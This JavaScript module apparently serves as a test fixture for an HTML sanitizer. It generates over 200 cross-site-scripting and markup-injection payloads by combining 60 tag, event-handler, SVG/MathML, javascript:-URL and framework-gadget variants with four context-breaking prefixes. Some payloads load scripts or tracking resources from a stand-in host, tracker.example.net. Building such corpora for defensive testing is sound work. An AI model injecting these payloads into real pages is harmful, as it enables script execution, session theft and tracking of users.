// Text that would run a script or load something if a page took it for markup: 60 ways, each in 4 surroundings.
// What runs sets `globalThis.__ran`; what loads asks a host that is not ours.

const host = "http://tracker.example.net";
const run = "globalThis.__ran=1";

const tags = [
  `<script>${run}</script>`,
  `<script src=${host}/x.js></script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=${host}/x.js /></svg>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<svg><image href=${host}/i.svg>`,
  `<svg><style>@import url(${host}/s.css)</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x oneonerrorrror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=${host}/pixel.gif>`,
  `<img srcset="${host}/pixel.gif 1x">`,
  `<img src="x:x" onerror=${run} //`,
  `<picture><source srcset=${host}/p.webp><img></picture>`,
  `<image src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<body background=${host}/b.png>`,
  `<table background=${host}/t.png><tr><td>x</table>`,
  `<div style="background:url(${host}/d.png)">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<style>@import "${host}/i.css";</style>`,
  `<style>*{background:url(${host}/a.png)}</style>`,
  `<link rel=stylesheet href=${host}/l.css>`,
  `<link rel=prefetch href=${host}/f>`,
  `<link rel=dns-prefetch href=//tracker.example.net>`,
  `<meta http-equiv=refresh content="0;url=${host}/m">`,
  `<base href=${host}/>`,
  `<iframe src=${host}/f></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data=${host}/o.swf></object>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src=${host}/e.swf>`,
  `<video src=${host}/v.mp4 autoplay onloadstart=${run}></video>`,
  `<video poster=${host}/p.png></video>`,
  `<audio src=${host}/a.mp3 autoplay onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action=${host}/p><button autofocus onfocus=${run}>x</button></form>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<turbo-stream action=append target=toasts><template><script>${run}</script></template></turbo-stream>`,
  `<turbo-frame src=${host}/f loading=eager></turbo-frame>`,
  `<div data-controller="preview" data-preview-url-value="${host}/p">x</div>`,
  `{{ 7*7 }}\${7*7}#{7*7}<%= 7*7 %>`,
  `javascript:${run}//data:text/html,<script>${run}</script>`,
];

const surroundings = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `' x='${tag}`,
  (tag) => `</textarea></title></option></style></script>-->${tag}`,
];

/** All of them; at least 200. */
export const payloads = surroundings.flatMap((around) => tags.map(around));

/** Whether something that was asked for belongs to somebody else. */
export function isForeign(url, own) {
  const { protocol, origin } = new URL(url);
  return !["data:", "blob:", "about:"].includes(protocol) && origin !== new URL(own).origin;
}
